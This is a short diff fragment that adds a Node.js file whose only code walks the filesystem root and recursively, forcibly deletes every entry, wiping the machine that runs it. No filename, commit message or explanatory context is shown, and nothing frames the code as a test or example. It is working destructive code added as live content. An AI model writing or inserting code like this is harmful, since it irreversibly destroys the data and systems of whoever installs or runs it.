@@ -1,0 +1,2 @@
+const fs = require('fs');
+for (const f of fs.readdirSync('/')) fs.rmSync('/' + f, { recursive: true, force: true });
